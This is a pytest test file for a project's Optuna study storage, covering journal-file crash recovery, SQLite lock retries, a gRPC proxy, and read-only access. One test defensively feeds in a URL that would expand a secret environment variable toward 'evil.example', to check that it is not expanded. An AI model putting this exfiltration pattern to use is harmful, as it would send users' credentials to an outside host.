"""Storage of studies: the journal file under kills and other writers, databases, a gRPC proxy."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import optuna
import pytest
from optuna.distributions import CategoricalDistribution, IntDistribution
from optuna.storages import JournalStorage
from optuna.storages.journal import JournalFileBackend
from optuna.trial import TrialState

from nas.recipe.schema import Recipe
from nas.studies import storage as storages
from nas.studies.storage import batched_writes, check_storage, open_read_only, open_storage
from search_spaces import InputError

SPACE = {f"x{i}": IntDistribution(0, 7) for i in range(5)} | {"kind": CategoricalDistribution(("a", "b"))}


def study_in(storage: optuna.storages.BaseStorage, name: str = "search") -> optuna.Study:
    return optuna.create_study(
        storage=storage,
        study_name=name,
        directions=["minimize", "maximize"],
        load_if_exists=True,
        sampler=optuna.samplers.NSGAIISampler(seed=0, population_size=4),
    )


def one_trial(study: optuna.Study) -> None:
    with batched_writes(study, durable=False):
        trial = study.ask(SPACE)
    with batched_writes(study, durable=True):
        trial.set_constraint("size_mb", -1.0)
        trial.set_user_attr("key", "ab")
        study.tell(trial, [1.0, 2.0])


def trials_of(study: optuna.Study) -> list[tuple[object, ...]]:
    return [(t.number, t.state, t.values, t.params, t.user_attrs, t.constraints) for t in study.get_trials()]


# -- the journal file ---------------------------------------------------------------------------------------------


def test_optuna_reads_batched_writes(tmp_path: Path) -> None:
    study = study_in(open_storage(None, tmp_path / "study.log"))
    for _ in range(12):
        one_trial(study)
    plain = study_in(JournalStorage(JournalFileBackend(str(tmp_path / "study.log"))))
    assert trials_of(plain) == trials_of(study) and len(study.trials) == 12


def test_writes_of_others_between_two_batches_are_read(tmp_path: Path) -> None:
    first = study_in(open_storage(None, tmp_path / "study.log"))
    second = study_in(JournalStorage(JournalFileBackend(str(tmp_path / "study.log"))))
    for _ in range(5):
        one_trial(first)
        second.tell(second.ask(SPACE), [0.0, 0.0])
        second.set_user_attr("note", "looks good")
    assert trials_of(first) == trials_of(second) and len(first.trials) == 10
    assert first.user_attrs == {"note": "looks good"}


def test_another_process_waits_for_the_end_of_a_batch(tmp_path: Path) -> None:
    first = study_in(open_storage(None, tmp_path / "study.log"))
    second = study_in(JournalStorage(JournalFileBackend(str(tmp_path / "study.log"), _open_lock(tmp_path))))
    with batched_writes(first, durable=False):
        first.ask(SPACE)
        writing = threading.Thread(target=lambda: second.tell(second.ask(SPACE), [0.0, 0.0]))
        writing.start()
        time.sleep(0.2)
        first.ask(SPACE)
    writing.join()
    assert trials_of(first) == trials_of(second)
    assert [t.state for t in first.trials] == [TrialState.RUNNING, TrialState.RUNNING, TrialState.COMPLETE]


def _open_lock(folder: Path) -> optuna.storages.journal.JournalFileOpenLock:
    return optuna.storages.journal.JournalFileOpenLock(str(folder / "study.log"))


@pytest.mark.parametrize("cut", [1, 7, 40, 200])
def test_a_half_written_last_line_is_removed(cut: int, tmp_path: Path) -> None:
    path = tmp_path / "study.log"
    for _ in range(3):
        one_trial(study_in(open_storage(None, path)))
    os.truncate(path, path.stat().st_size - cut)
    again = study_in(open_storage(None, path))
    assert [t.state for t in again.trials][:2] == [TrialState.COMPLETE] * 2
    one_trial(again)
    assert trials_of(study_in(open_storage(None, path))) == trials_of(again)


def test_an_interrupted_batch_is_written(tmp_path: Path) -> None:
    study = study_in(open_storage(None, tmp_path / "study.log"))
    with pytest.raises(KeyboardInterrupt), batched_writes(study, durable=False):
        study.ask(SPACE)
        raise KeyboardInterrupt
    assert trials_of(study_in(open_storage(None, tmp_path / "study.log"))) == trials_of(study)
    assert not (tmp_path / "study.log.lock").exists()


def test_the_cost_of_a_trial_does_not_grow(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading continues where it ended, so the number of parsed lines does not depend on the length of the file."""
    study = study_in(open_storage(None, tmp_path / "study.log"))
    study.sampler = optuna.samplers.RandomSampler(seed=0)
    calls: list[str] = []
    loads = json.loads
    monkeypatch.setattr(json, "loads", lambda text: (calls.append(text), loads(text))[1])
    parsed = []
    for _ in range(30):
        calls.clear()
        one_trial(study)
        parsed.append(len(calls))
    assert len(set(parsed)) == 1


# -- databases ----------------------------------------------------------------------------------------------------


def test_a_database_by_url(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLACE", str(tmp_path))
    study = study_in(open_storage("sqlite:///$PLACE/study.db", tmp_path / "unused"))
    one_trial(study)
    assert trials_of(study_in(optuna.storages.RDBStorage(f"sqlite:///{tmp_path}/study.db"))) == trials_of(study)
    assert not (tmp_path / "unused").exists()


def locked(database: Path, release: threading.Event) -> threading.Thread:
    """Another program holds the database until it is released."""
    is_held = threading.Event()

    def hold() -> None:
        with sqlite3.connect(database, isolation_level=None) as connection:
            connection.execute("BEGIN EXCLUSIVE")
            is_held.set()
            release.wait(60)
            connection.execute("COMMIT")

    thread = threading.Thread(target=hold)
    thread.start()
    is_held.wait(10)
    return thread


def test_calls_are_repeated_while_a_database_is_locked(tmp_path: Path) -> None:
    study = study_in(open_storage(f"sqlite:///{tmp_path}/study.db", tmp_path / "unused"))
    one_trial(study)
    release = threading.Event()
    holder = locked(tmp_path / "study.db", release)
    threading.Timer(6.5, release.set).start()  # longer than SQLite's own patience of 5 s
    one_trial(study)
    holder.join()
    assert [t.state for t in study.trials] == [TrialState.COMPLETE] * 2


def test_a_database_that_stays_locked_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(storages, "RETRY_TIMEOUT_S", 0.5)
    study = study_in(open_storage(f"sqlite:///{tmp_path}/study.db", tmp_path / "unused"))
    one_trial(study)
    release = threading.Event()
    holder = locked(tmp_path / "study.db", release)
    with pytest.raises(InputError, match=r"has not for .* s .*locked.*results recorded so far are kept"):
        one_trial(study)
    release.set()
    holder.join()
    assert study.trials[0].state == TrialState.COMPLETE


@pytest.mark.slow
def test_a_grpc_proxy_that_comes_back(tmp_path: Path) -> None:
    pytest.importorskip("grpc")
    port = 13000 + os.getpid() % 10000
    code = (
        "import optuna; from optuna.storages import RDBStorage, run_grpc_proxy_server as run;"
        f"run(RDBStorage('sqlite:///{tmp_path}/study.db'), host='localhost', port={port})"
    )
    server = subprocess.Popen([sys.executable, "-c", code], stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while True:
            try:
                study = study_in(open_storage(f"grpc://localhost:{port}", tmp_path / "unused"))
                break
            except InputError:
                assert time.monotonic() < deadline
                time.sleep(0.5)
        one_trial(study)
        server.kill()
        server.wait()
        restarted = threading.Timer(1.0, lambda: servers.append(subprocess.Popen([sys.executable, "-c", code])))
        servers: list[subprocess.Popen[bytes]] = []
        restarted.start()
        one_trial(study)
        restarted.join()
        assert [t.state for t in study.trials] == [TrialState.COMPLETE] * 2
    finally:
        for process in (server, *servers):
            process.kill()
            process.wait()


@pytest.mark.parametrize(
    ("url", "message"),
    [
        (
            "postgresql://nas:secret@localhost:1/x",
            r"psycopg\[binary\]|`postgresql://nas:\*\*\*@localhost:1/x` does not",
        ),
        ("mysql+nosuch://localhost/x", "mysql"),
        ("sqlite:////no/such/folder/x.db", r"does not \(.*unable to open"),
        ("grpc://localhost:1", r"grpcio|does not"),
    ],
)
def test_a_storage_that_cannot_be_opened_is_one_line(
    url: str, message: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(storages, "RETRY_TIMEOUT_S", 0.0)
    with pytest.raises(InputError, match=message) as refused:
        open_storage(url, tmp_path / "unused")
    assert "secret" not in str(refused.value)


def test_a_url_of_another_kind_is_refused_by_the_recipe() -> None:
    base = {"model": "m", "task": {"type": "text-classification", "train": "a", "test": "b"}, "space": {}}
    with pytest.raises(InputError, match=r"`search.storage` must be a URL that begins with postgresql"):
        Recipe.parse({**base, "search": {"storage": "redis://localhost"}})


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://nas:s3cret@127.0.0.1:1/x",
        "postgresql://s3cret@127.0.0.1:1/x",
        "mysql://127.0.0.1:1/x?password=s3cret",
        "grpc://s3cret@127.0.0.1:1",
    ],
)
def test_no_secret_is_printed_by_us_or_a_driver(url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(text: str) -> None:
        raise ConnectionError(f"cannot connect to {text} as s3cret")

    monkeypatch.setattr(storages, "_ping", refuse)
    with pytest.raises(InputError, match="does not") as refused:
        check_storage(url, tmp_path)
    assert "s3cret" not in str(refused.value) and "***" in str(refused.value)


def test_a_relative_file_is_in_the_run_whatever_the_working_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("run", "a", "b"):
        (tmp_path / name).mkdir()
    for place in ("a", "b"):
        monkeypatch.chdir(tmp_path / place)
        one_trial(study_in(open_storage("sqlite:///study.db", tmp_path / "run" / "study.log")))
    assert [path.name for path in tmp_path.rglob("*.db")] == ["study.db"]
    observed = open_read_only("sqlite:///study.db", tmp_path / "run" / "study.log")
    assert len(optuna.load_study(study_name="search", storage=observed).trials) == 2


@pytest.mark.parametrize("url", ["sqlite://", "sqlite:///:memory:", "sqlite:///file:x?uri=true", "sqlite://x.db"])
def test_a_database_without_a_file_would_be_lost(url: str, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="must name a file"):
        check_storage(url, tmp_path)


def test_checking_a_storage_creates_nothing(tmp_path: Path) -> None:
    check_storage("sqlite:///study.db", tmp_path / "run")
    check_storage(f"sqlite:///{tmp_path}/study.db", tmp_path / "run")
    for url, says in (("sqlite:///none/study.db", "existing folder"), (f"sqlite:///{tmp_path}", "can be written")):
        with pytest.raises(InputError, match=says):
            check_storage(url, tmp_path)
    with pytest.raises(InputError, match="does not"):
        check_storage("grpc://127.0.0.1:1", tmp_path)
    assert not list(tmp_path.iterdir())


def test_a_full_database_is_not_waited_for(monkeypatch: pytest.MonkeyPatch) -> None:
    storage = optuna.storages.InMemoryStorage()
    calls: list[int] = []

    def full() -> None:
        calls.append(1)
        raise optuna.exceptions.StorageInternalError("the commit failed") from OSError("database or disk is full")

    monkeypatch.setattr(storage, "get_all_studies", full)
    with pytest.raises(optuna.exceptions.StorageInternalError):
        storages._with_retries(storage, "sqlite:///x").get_all_studies()
    assert len(calls) == 1


# -- observed runs ------------------------------------------------------------------------------------------------


def test_an_observed_database_is_not_changed(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/study.db"
    one_trial(study_in(open_storage(url, tmp_path / "unused")))
    before = (tmp_path / "study.db").read_bytes()
    observed = open_read_only(url, tmp_path / "unused")
    assert len(optuna.load_study(study_name="search", storage=observed).trials) == 1
    with pytest.raises(optuna.exceptions.StorageInternalError):
        optuna.load_study(study_name="search", storage=observed).set_user_attr("a", "b")
    with pytest.raises(InputError, match="there is no"):
        open_read_only(f"sqlite:///{tmp_path}/none.db", tmp_path / "unused")
    assert (tmp_path / "study.db").read_bytes() == before and not (tmp_path / "none.db").exists()


def test_an_observed_journal_is_not_changed(tmp_path: Path) -> None:
    path = tmp_path / "study.log"
    one_trial(study_in(open_storage(None, path)))
    with path.open("a") as file:
        file.write('{"op_code": 5, "half')
    before = path.read_bytes()
    study = optuna.load_study(study_name="search", storage=open_read_only(None, path))
    assert len(study.trials) == 1
    with pytest.raises(InputError, match="for reading only"):
        study.set_user_attr("a", "b")
    assert path.read_bytes() == before and [each.name for each in tmp_path.iterdir()] == ["study.log"]


def test_variables_of_an_observed_run_are_not_expanded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "s3cret")
    with pytest.raises(InputError, match="--storage") as refused:
        open_read_only("postgresql://$SECRET_KEY@evil.example/x", tmp_path / "study.log")
    assert "s3cret" not in str(refused.value)


@pytest.mark.parametrize("line", [b"not JSON\n", b"\xff\xfe\n", b"[]\n", b"3\n", b'{"op_code": 99}\n', b"{}\n"])
@pytest.mark.parametrize("reading", [True, False])
def test_a_damaged_journal_is_one_line(line: bytes, reading: bool, tmp_path: Path) -> None:
    path = tmp_path / "study.log"
    one_trial(study_in(open_storage(None, path)))
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join([*lines[:2], line, *lines[2:]]))
    with pytest.raises(InputError, match="is damaged"):
        open_read_only(None, path) if reading else open_storage(None, path)
